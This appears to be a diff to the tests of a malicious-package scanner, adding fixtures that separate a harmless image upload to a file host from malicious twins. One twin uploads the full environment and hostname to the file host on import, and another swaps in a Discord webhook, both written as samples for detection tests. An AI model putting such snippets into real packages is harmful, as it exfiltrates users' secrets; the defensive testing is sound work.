@@ -1,10 +1,16 @@
-"""Round 16's false-alarm class, a harmless fixture beside its malicious twins.
+"""Round 16's false-alarm classes, each a harmless fixture beside its malicious twins.
 
 A command-line tool moves its user's old settings file to where its new version keeps them,
 the first time the module is imported (cqlsh: ``~/.cqlshrc`` to ``~/.cassandra/cqlshrc``, its
 history file too). Nothing of the package's reaches the disk: the file was the user's before
 and is the user's after. A copy or move that writes the package's own file, or one into an
-autostart place, stays what it was. Addresses are TEST-NET or ``.invalid``; nothing here is run.
+autostart place, stays what it was.
+
+An image library's ``load(img, output_type="url")`` uploads the image the caller handed in to a
+file host and returns the link (loadimg: uguu.se). A file host named in the code is shown at
+medium: a stealer's upload there is a chain from what it collected, and a webhook or bot token
+(the attacker's own channel) stays high alone. Addresses are TEST-NET or ``.invalid``; nothing
+here is run.
 """
 
 from __future__ import annotations
@@ -85,3 +91,42 @@ def test_a_stolen_store_copied_to_temp_and_sent_stays_a_chain(tmp_path):
         subfolder(tmp_path, "steal"),
     )
     assert_high_with("store copied and sent", res, {"chain.exfiltration", "place.import_time"})
+
+
+SHARE = """import requests
+
+
+def to_url(image_bytes, name):
+    reply = requests.post("https://uguu.se/upload", files={"files[]": (name, image_bytes)})
+    return reply.json()["files"][0]["url"]
+"""
+
+
+def test_a_users_image_uploaded_to_a_file_host_is_shown_not_high(tmp_path):
+    res = scan({"gizmo/__init__.py": "", "gizmo/share.py": SHARE}, tmp_path)
+    ends = [h for h in res.findings if h.capability == "net.exfil_endpoint"]
+    assert [(h.path, h.severity) for h in ends] == [("gizmo/share.py", "medium")]
+    assert "file-drop" in ends[0].explanation
+    assert res.risk.level not in HIGH, [(t.id, t.severity) for t in res.threats]
+
+
+def test_collected_data_uploaded_to_a_file_host_stays_a_chain(tmp_path):
+    steal = SHARE + (
+        "\nimport os, platform\n"
+        "REPORT = str(dict(os.environ)).encode() + platform.node().encode()\n"
+        "to_url(REPORT, 'report.txt')\n"
+    )
+    res = scan(
+        {"gizmo/__init__.py": "from .share import to_url\n", "gizmo/share.py": steal},
+        subfolder(tmp_path, "steal"),
+    )
+    assert_high_with("environment uploaded to a file host", res, {"chain.exfiltration"})
+
+
+def test_a_webhook_alone_stays_high(tmp_path):
+    hook = SHARE.replace(
+        "https://uguu.se/upload",
+        "https://discord.com/api/webhooks/123456789012345678/abcdefghijklmnopqrstuvwxyz0123456789",
+    )
+    res = scan({"gizmo/__init__.py": "", "gizmo/share.py": hook}, subfolder(tmp_path, "hook"))
+    assert_high_with("a webhook alone", res, {"chain.exfil_endpoint"})
